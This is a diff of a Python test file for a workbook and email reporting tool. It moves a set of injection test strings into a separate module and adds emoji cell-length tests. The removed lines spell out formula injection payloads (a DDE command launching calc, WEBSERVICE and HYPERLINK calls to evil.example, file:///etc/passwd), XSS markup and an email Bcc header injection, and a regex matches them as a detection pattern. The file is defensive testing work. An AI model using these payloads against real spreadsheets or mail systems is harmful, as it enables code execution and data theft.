@@ -7,12 +7,10 @@ import os
 import re
 import shutil
 import zipfile
-from dataclasses import replace
 from email.message import EmailMessage
 from email.parser import BytesParser
 from html.parser import HTMLParser
 from pathlib import Path
-from typing import Any
 from urllib.parse import unquote
 
 import openpyxl
@@ -28,54 +26,18 @@ from reportkit.mail.results import write_results
 from reportkit.mail.send import write_drafts
 from reportkit.read.workbook import read_book
 from reportkit.workbooks.cells import fitting
-from tests.branches import LAST_WEEK, TODAY, WEEK, ask_for, branch_in, rewrite, rows_of_advisor, settings_of_demo
+from tests.branches import LAST_WEEK, TODAY, WEEK, branch_in, rewrite, rows_of_advisor
+from tests.injected import LONGEST, TYPED, branch_with_all_of_it, nasty
 
-TYPED = {
-    "formula": "=1+1", "plus": "+1+1", "minus": "-2+3", "at": "@SUM(A1)", "array": "{=1+1}", "tab": "\t=1+1", "quote": "'=1+1",
-    "dde": "=cmd|' /C calc'!A0", "dde of LibreOffice": '=DDE("soffice";"/etc/passwd";"A1")', "call": '=WEBSERVICE("http://evil.example")',
-    "link": '=HYPERLINK("http://evil.example","x")', "address": "http://evil.example/x", "mail": "mailto:evil@evil.example",
-    "share": r"\\evil.example\share\x", "file": "file:///etc/passwd", "inner": "internal:A!A1", "outer": r"external:c:\evil.xlsx",
-    "run": "<r>a & b</r>", "page": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="http://evil.example">x</a>', "entity": "&lt;b&gt; &amp; ]]>",
-    "template": "{{ 7*7 }} {% raw %} ${x} {0} {name} %s", "markup": "[bold red]x[/] [link=http://evil.example]y[/link]",
-    "lines": "x\r\nBcc: thief@evil.example\nEND:VEVENT\n\nx", "control": "a\x01\x07\x0b\x1b[31mb\x7f\x85c\u2028d", "escape": "_x000D_ _x0041_ _x005F_ _xD83D_",
-    "bidi": "\u202e=1+1\u202c \u2066x\u2069\u200f", "emoji": "👩‍👩‍👧 🇨🇳 𠮷", "no character": "a\ufffe\uffffb",
-}  # fmt: skip
-LONGEST = "长" * 32_767
 HARMFUL = re.compile(
     r"evil|cmd\||DDE|WEBSERVICE|SUM\(A1\)|passwd|\b1\+1\b|\b2\+3\b|7\*7", re.IGNORECASE
 )  # of what was typed
-KEYS = {"customer_id", "case_id", "repeat_of", "referred_by"}
-
-
-def nasty(rows: dict[str, list[dict[str, Any]]], *more: str) -> None:
-    """Put all of it into every column of text that names nothing."""
-    texts = [*TYPED.values(), *more]
-    for code, of_form in rows.items():
-        free = [one.code for one in FORMS[code].columns if one.kind == "text" and one.code not in KEYS]
-        for at, row in enumerate(of_form):
-            for number, column in enumerate(free):
-                row[column] = texts[(at + number) % len(texts)]
 
 
 @pytest.fixture(scope="module")
 def branch(tmp_path_factory: pytest.TempPathFactory) -> Branch:
-    """A closed week whose log and settings hold all of it, names of people, teams and the branch included."""
-    branch = branch_in(tmp_path_factory.mktemp("injected") / "branch")
-    sheets = settings_of_demo()
-    texts = list(TYPED.values())
-    for at, row in enumerate(sheets["roster"]):
-        row["name"], row["team"] = texts[at % len(texts)], texts[(at + 7) % len(texts)]
-    sheets["faq"] = [{"category": "account", "question": text, "answer": text} for text in texts]
-    sheets["branch"] = [{**row, "name": TYPED["lines"] + TYPED["control"]} for row in sheets["branch"]]
-    sheets["roster"][0]["name"] = sheets["roster"][0]["team"] = TYPED["control"]
-    sheets["mail"] = [{"email": "boss@example.com", "name": text, "report": "branch"} for text in texts[:1]]
-    ask_for(branch, sheets)
-    for log in branch.logs():
-        log.unlink()
-    for number in (1, 2):
-        identity, rows = rows_of_advisor(number)
-        nasty(rows, LONGEST)
-        rewrite(branch, replace(identity, advisor_name=texts[number]), rows, f"{identity.advisor_id} x.xlsx")
+    """A closed week of a branch with all of it."""
+    branch = branch_with_all_of_it(tmp_path_factory.mktemp("injected") / "branch")
     close(branch, LAST_WEEK, TODAY)
     refresh(branch, WEEK, TODAY)
     write_drafts(branch, LAST_WEEK, TODAY)
@@ -231,6 +193,8 @@ def test_a_log_whose_name_is_in_another_encoding_is_named_and_the_others_count(t
 def test_a_sentence_too_long_for_a_cell_is_cut_not_lost() -> None:
     assert [len(fitting("x" * length)) for length in (1, 32_767, 32_768)] == [1, 32_767, 32_767]
     assert fitting("x" * 40_000).endswith("x…")
+    assert fitting("👩" * 16_383) == "👩" * 16_383  # Excel counts each as two
+    assert fitting("👩" * 16_384) == "👩" * 16_383 + "…"
 
 
 def test_a_reason_that_is_no_text_is_kept_as_one(tmp_path: Path) -> None:
